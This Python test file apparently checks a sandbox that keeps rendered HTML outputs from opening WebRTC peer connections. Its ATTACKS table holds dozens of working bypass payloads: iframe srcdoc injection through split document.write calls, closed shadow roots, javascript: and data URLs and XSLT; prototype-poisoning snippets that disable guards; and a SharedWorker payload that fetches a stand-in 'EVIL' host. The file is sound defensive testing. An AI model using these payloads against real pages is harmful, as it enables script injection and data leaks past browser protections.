"""Windows that an output creates: none of them has peer connections, which no policy can block."""

from __future__ import annotations

import json
import time

import pytest

from tests.support.attacks import Elsewhere
from tests.test_html import inner

pytestmark = pytest.mark.slow

# Creates a peer connection, if the window has the class. It has no quotes, so that it can be embedded anywhere.
PEER = '''for (const kind of [`RTCPeerConnection`, `webkitRTCPeerConnection`, `mozRTCPeerConnection`]) try {
 const peer = new window[kind]({iceServers: [{urls: `stun:127.0.0.1:UDP`}]}); peer.createDataChannel(`x`);
 peer.createOffer().then(offer => peer.setLocalDescription(offer)) } catch (error) {}'''.replace('\n', '')
# The same as a document, written so that it does not end an enclosing script.
DOCUMENT = f'`<script>{PEER.replace("`", chr(92) + "`")}<` + `/script>`'
MARKUP = f'<script>{PEER}</script>'
FRAME = 'const f = document.createElement(`iframe`);'
ADD = 'document.documentElement.append(f);'

# Functions that a script replaces before its attempt.
REPLACED = {
    'nothing': '',
    'querySelectorAll': 'for (const p of [Document, Element, DocumentFragment]) p.prototype.querySelectorAll = () => [];',
    'lists': '''NodeList.prototype.forEach = Array.prototype.forEach = () => 0; NodeList.prototype.item = () => null;
        Object.defineProperty(NodeList.prototype, `length`, {get: () => 0}); for (const p of [NodeList, Array]) p.prototype[Symbol.iterator] = function* () {};''',
    'texts': '''for (const name of Object.getOwnPropertyNames(String.prototype)) if (/start|replace|slice|index|includes|match/.test(name))
        String.prototype[name] = () => true; window.String = () => ``;''',
    'patterns': '''RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; RegExp.prototype[Symbol.replace] = (x, y) => x;
        Object.defineProperty(RegExp.prototype, `flags`, {get: () => ``}); Object.defineProperty(RegExp.prototype, `global`, {get: () => false});
        String.prototype[Symbol.replace] = text => text;''',
    'reflection': 'Reflect.apply = Reflect.get = Object.assign = () => ``; Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => ``;',
    'documents of frames': '''Object.defineProperty(HTMLIFrameElement.prototype, `srcdoc`, {get: () => ``, set() {}}); const set = Element.prototype.setAttribute;
        Element.prototype.getAttribute = () => null; Element.prototype.removeAttribute = () => 0;''',
    'observers': '''MutationObserver.prototype.observe = () => 0; window.MutationObserver = class {}; WeakMap.prototype.get = () => undefined;
        WeakMap.prototype.set = function () { return this }; Object.prototype.attributes = Object.prototype.characterDataOldValue = true;''',
    'policies': 'try { Object.defineProperty(TrustedTypePolicyFactory.prototype, `defaultPolicy`, {get: () => null}) } catch (error) {}',
}
ROUTES = {
    'a property': f'{FRAME} f.srcdoc = {DOCUMENT}; {ADD}',
    'an attribute': f'{FRAME} f.setAttribute(`srcdoc`, {DOCUMENT}); {ADD}',
    'another attribute': f'{FRAME} f.setAttribute(`srcdo\u0441`, {DOCUMENT}); {ADD}',
    'an attribute node': f'{FRAME} const a = document.createAttribute(`srcdoc`); a.value = {DOCUMENT}; f.attributes.setNamedItem(a); {ADD}',
    'an attribute node changed later': f'{FRAME} const a = document.createAttribute(`srcdoc`); f.setAttributeNode(a); {ADD} a.value = {DOCUMENT};',
    'a frame that is there': f'{FRAME} {ADD} setTimeout(() => {{ f.srcdoc = {DOCUMENT} }}, 50)',
    'markup': f'const d = document.createElement(`div`); {FRAME} f.setAttribute(`src` + `doc`, {DOCUMENT}); d.innerHTML = f.outerHTML; document.documentElement.append(d)',
    'markup, and then it is busy': f'const d = document.createElement(`div`); document.documentElement.append(d); d.innerHTML = `<iframe srcdoc="${{{DOCUMENT}.replaceAll(`"`, `&quot;`)}}">`; for (const end = Date.now() + 700; Date.now() < end;);',
    'a closed shadow root': f'const d = document.createElement(`div`); document.documentElement.append(d); {FRAME} f.srcdoc = {DOCUMENT}; d.attachShadow({{mode: `closed`}}).append(f)',
    'a closed shadow root, filled later': f'const d = document.createElement(`div`); document.documentElement.append(d); const s = d.attachShadow({{mode: `closed`, clonable: true}}); s.innerHTML = `<iframe>`; s.firstChild.setAttribute(`srcdoc`, {DOCUMENT})',
    'writing': f'document.write(`<iframe srcdoc="`); document.write({DOCUMENT}.replaceAll(`"`, `&quot;`)); document.write(`"></iframe>`)',
    'writing a name in parts': f'document.write(`<iframe src`); document.write(`doc="`, {DOCUMENT}.replaceAll(`"`, `&quot;`) + `"></iframe>`)',
    'writing a shadow root in parts': f'document.write(`<p><template sha`); document.write(`dowroot`); document.write(`mo`, `de=clo`); document.write(`sed><iframe src`); document.write(`doc="` + {DOCUMENT}.replaceAll(`"`, `&quot;`) + `"></iframe></template></p>`)',
    'writing to two documents by turns': f'const o = document.implementation.createHTMLDocument(``); o.open(); for (const part of [`<p><template shadowro`, `otmo`, `de=closed><iframe sr`, `cdoc="`, {DOCUMENT}.replaceAll(`"`, `&quot;`), `"></iframe></template></p>`]) {{ o.write(part); document.write(`x`); }} document.documentElement.append(document.adoptNode(o.querySelector(`p`)))',
    'writing later': f'setTimeout(() => {{ document.open(); document.write(`<iframe srcdoc="` + {DOCUMENT}.replaceAll(`"`, `&quot;`) + `"></iframe>`); document.close() }}, 80)',
    'a fragment': f'{FRAME} f.setAttribute(`srcdoc`, {DOCUMENT}); document.documentElement.append(document.createRange().createContextualFragment(f.outerHTML))',
    'a parser': f'{FRAME} f.setAttribute(`srcdoc`, {DOCUMENT}); const d = new DOMParser().parseFromString(f.outerHTML, `text/html`); document.documentElement.append(d.body.firstChild)',
    'a parser of XML': f'const d = new DOMParser().parseFromString(`<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="` + {DOCUMENT}.replaceAll(`<`, `&lt;`).replaceAll(`"`, `&quot;`) + `"/>`, `application/xhtml+xml`); document.documentElement.append(d.documentElement)',
    'another parser': f'const t = `<p><template shadow` + `rootmode=closed><iframe srcdoc="` + {DOCUMENT}.replaceAll(`"`, `&quot;`) + `"></iframe></template></p>`; const d = document.createElement(`div`); document.documentElement.append(d); for (const o of [d, Document, Range.prototype]) for (const name of Object.getOwnPropertyNames(Object.getPrototypeOf(o)).concat(Object.getOwnPropertyNames(o))) if (/HTML/.test(name)) try {{ o[name](t) }} catch (error) {{}}',
    'a policy of its own': f'const p = trustedTypes.createPolicy(`mine`, {{createHTML: t => t}}); {FRAME} f.srcdoc = p.createHTML({DOCUMENT}); {ADD} document.write(p.createHTML(`<p><template shadowrootmode=closed><iframe srcdoc="`)); document.write(p.createHTML({DOCUMENT}.replaceAll(`"`, `&quot;`) + `"></iframe></template></p>`))',
    'a command': f'document.body.contentEditable = true; document.body.focus(); document.execCommand(`selectAll`); document.execCommand(`insertHTML`, false, `<iframe srcdoc="` + {DOCUMENT}.replaceAll(`"`, `&quot;`) + `"></iframe>`)',
    'an address': f'{FRAME} f.src = `javascript:` + {DOCUMENT.join(["JSON.stringify(", ")"])}; {ADD}',
    'an address of code': f'{FRAME} f.src = `javascript:` + {DOCUMENT}.slice(8, -9); {ADD}',
    'an address that comes later': f'{FRAME} f.name = `g`; {ADD} setTimeout(() => {{ try {{ frames[0].location = `javascript:` + {DOCUMENT}.slice(8, -9) }} catch (error) {{}} }}, 80)',
    'a link': f'{FRAME} f.name = `g`; {ADD} const a = document.createElement(`a`); a.target = `g`; a.href = `javascript:` + {DOCUMENT}.slice(8, -9); document.documentElement.append(a); setTimeout(() => a.click(), 80)',
    'a form': f'{FRAME} f.name = `g`; {ADD} const a = document.createElement(`form`); a.target = `g`; a.action = `javascript:` + {DOCUMENT}.slice(8, -9); document.documentElement.append(a); setTimeout(() => a.submit(), 80)',
    'its own address': f'setTimeout(() => {{ location = `javascript:` + {DOCUMENT.join(["JSON.stringify(", ")"])} }}, 80)',
    'a blank frame': f'{FRAME} {ADD} for (const get of [() => f.contentWindow, () => f.contentDocument.defaultView, () => frames[0]]) try {{ get().eval({DOCUMENT}.slice(8, -9)) }} catch (error) {{}}',
    'a frame of a frame': f'{FRAME} f.srcdoc = `<script>const g = document.createElement("iframe"); g.srcdoc = ` + JSON.stringify({DOCUMENT}).replace(`</`, `<` + `\\\\/`) + `; document.documentElement.append(g)<` + `/script>`; {ADD}',
    'a Blob': f'{FRAME} f.src = URL.createObjectURL(new Blob([{DOCUMENT}], {{type: `text/html`}})); {ADD}',
    'data': f'{FRAME} f.src = `data:text/html,` + encodeURIComponent({DOCUMENT}); {ADD}',
    'other elements': f'for (const [tag, key] of [[`object`, `data`], [`embed`, `src`], [`frame`, `src`], [`portal`, `src`], [`fencedframe`, `src`]]) for (const start of [`data:text/html,`, `javascript:`]) {{ const f = document.createElement(tag); f[key] = start + encodeURIComponent({DOCUMENT}); f.setAttribute(key, f[key]); {ADD} }}',
    'frames of a frameset': f'const s = document.createElement(`frameset`); const f = document.createElement(`frame`); f.src = `javascript:` + {DOCUMENT}.slice(8, -9); s.append(f); document.documentElement.append(s)',
    'a style sheet of XML': f'const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe><xsl:attribute name="srcd{{}}oc">`.replace(`{{}}`, ``) + {DOCUMENT}.replaceAll(`<`, `&lt;`) + `</xsl:attribute></iframe></xsl:template></xsl:stylesheet>`, `text/xml`)); document.documentElement.append(p.transformToFragment(document, document))',
    'taking it out of a frame again': f'{FRAME} f.srcdoc = `<p>x`; {ADD} setTimeout(() => {{ f.srcdoc = f.srcdoc.slice(0, 40) + {DOCUMENT} }}, 80)',
}
# Markup that takes effect before any of its scripts has run.
WRITTEN = {
    'a frame': f'<iframe srcdoc="{MARKUP}"></iframe>', 'capitals': f'<IFRAME SRCDOC="{MARKUP}"></IFRAME>',
    'in a shadow root': f'<p><template shadowrootmode=closed><iframe srcdoc="{MARKUP}"></iframe></template></p>',
    'in a drawing': f'<svg><foreignObject><iframe srcdoc="{MARKUP}"></iframe></foreignObject></svg>',
    'behind a quote in a comment': f'<!-- <a title=" --><iframe srcdoc="{MARKUP}"></iframe><!-- "> -->',
    'by a tag of two halves': f'<script>document.write(`<iframe src`)</script>doc="{MARKUP}"></iframe>',
    'by a shadow root of two halves': f'<script>document.write(`<p><template shadowroo`)</script>tmode=closed><iframe srcdoc="{MARKUP}"></iframe></template></p>',
    'by a shadow root of a bit and the rest': f'<script>document.write(`<p><template s`)</script>hadowrootmode=closed><iframe srcdoc="{MARKUP}"></iframe></template></p>',
    'by a shadow root of most and a bit': f'<script>document.write(`<p><template shadowrootmod`)</script>e=closed><iframe srcdoc="{MARKUP}"></iframe></template></p>',
    'by an address': f'<iframe src="javascript:{PEER}"></iframe>', 'by the address of a document': f'<iframe src="javascript:{DOCUMENT.replace("<", "&lt;")}"></iframe>',
    'by an address in disguise': f'<iframe src=" java&#10;script&colon;{PEER}"></iframe>',
    'by a link': f'<iframe name=g></iframe><a id=a target=g href="javascript:{PEER}">x</a><script>setTimeout(() => a.click(), 80)</script>',
    'a handler': f'<iframe onload="{PEER}"></iframe><img src onerror="{PEER}">',
}
# WebKit lets a SharedWorker from a data URL fetch any address.
SHARED = '<script>new SharedWorker(`data:text/javascript,` + encodeURIComponent(`fetch("http://EVIL/w").catch(() => 0)`))</script>'

# A selection that covers each part of the guard, for each function that a script can replace.
FEW = ('a property', 'an attribute node', 'markup', 'a closed shadow root, filled later', 'writing a shadow root in parts', 'a policy of its own',
       'an address', 'a frame of a frame')
ATTACKS = {**{f'markup: {name}': text for name, text in WRITTEN.items()},
           **{f'{name}, having replaced {what}': f'<body><script>{replaced}\n{route}</script>'
              for what, replaced in REPLACED.items() for name, route in ROUTES.items() if what == 'nothing' or name in FEW}}


@pytest.fixture(scope='module')
def elsewhere():
    server = Elsewhere()
    yield server
    server.close()


@pytest.mark.parametrize('has_header', [True, False])
def test_no_peer_connection_leaves_and_none_crashes_the_page(new_visit, elsewhere, assets, has_header):
    assets.has_page_headers = has_header
    visit = new_visit()
    failures = []
    names = list(ATTACKS)
    for start in range(0, len(names), 40):
        batch = names[start:start + 40]
        if damage(visit, elsewhere, batch):
            failures += [(name, found) for name in batch if (found := damage(visit, elsewhere, [name]))]
    visit.problems.clear()
    assert failures == []


def test_no_engine_lets_an_output_out(engine, elsewhere):
    engine.open()
    names = [name for name in ATTACKS if name.startswith('markup') or name.endswith('nothing')]
    outcomes = engine.show(*(['text/html', ATTACKS[name].replace('UDP', str(elsewhere.udp_port))] for name in names), ['text/html', SHARED.replace('EVIL', elsewhere.host)])
    assert all(outcome['ok'] for outcome in outcomes)
    time.sleep(4)
    assert elsewhere.visitors == []
    assert engine.run('return 1') == 1


def test_frames_of_an_output_work(visit):
    """Each way of creating a frame still works, and its scripts run."""
    page = visit.open()
    nested = '<p>inner</p><script>document.body.append(`ran`, typeof RTCPeerConnection, typeof SharedWorker)</script>'
    text = json.dumps(nested).replace('/', '\\/')
    visit.show(['text/html', f'''<body><iframe srcdoc="{nested}"></iframe><div id=a></div><script>
        const text = {text}, frame = document.createElement("iframe");
        a.innerHTML = `<iframe srcdoc="${{text}}"></iframe>`;
        frame.srcdoc = text; document.body.append(frame);
        document.body.appendChild(document.createElement("div")).attachShadow({{mode: "closed"}}).append(frame.cloneNode());
        document.write(`<iframe src`); document.write(`doc="${{text}}"></iframe>`)</script>'''])
    visit.page.wait_for_timeout(1000)
    assert [frame.evaluate('document.body.innerText') for frame in page.frames[3:]] == ['inner\n\nranundefinedundefined'] * 5


def test_scripts_of_libraries_get_what_they_give(visit):
    """The default policy changes no visible markup, and a library's own policy works."""
    visit.open()
    visit.show(['text/html', '<body><p id=a></p><p id=b></p><script>a.innerHTML = "<b>srcdoc, shadowrootmode</b>"; b.innerHTML = trustedTypes.createPolicy("lit-html", '
                '{createHTML: text => text + "!"}).createHTML("<i>policy</i>"); a.append(eval("1 + 1"), new Function("return 3")())</script>'])
    document = inner(visit)
    document.wait_for_function('document.body.innerText.includes("policy!")')
    assert document.evaluate('a.innerText').endswith('23') and document.evaluate('a.querySelector("b").innerText.length') == 22


def damage(visit, elsewhere, names: list[str]) -> list[str]:
    """The requests that attacks have sent, crashes of the page, and failed items."""
    page = visit.open()
    outcomes = visit.show(*(['text/html', ATTACKS[name].replace('UDP', str(elsewhere.udp_port))] for name in names))
    page.wait_for_timeout(600 + 60 * len(names))
    found = [*elsewhere.visitors, *(['crashed'] if page.evaluate('1 + 1') != 2 else []), *(str(each) for each in outcomes if not each['ok'])]
    elsewhere.visitors.clear()
    return found


def test_the_attacks_would_be_noticed(new_visit, elsewhere):
    """Without the guard, in a plain frame, each way of creating a window succeeds."""
    visit = new_visit()
    page = visit.open()
    reached = []
    for name in [f'{name}, having replaced nothing' for name in ('a property', 'writing a name in parts', 'a closed shadow root', 'markup')] + [
            'markup: a frame', 'markup: by a shadow root of two halves']:
        page.evaluate('''text => { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = text;
            document.body.append(f) }''', ATTACKS[name].replace('UDP', str(elsewhere.udp_port)))
        page.wait_for_timeout(700)
        if elsewhere.visitors:
            reached.append(name)
        elsewhere.visitors.clear()
        page.evaluate('document.querySelector("iframe").remove()')
    assert len(reached) == 6
    visit.problems.clear()
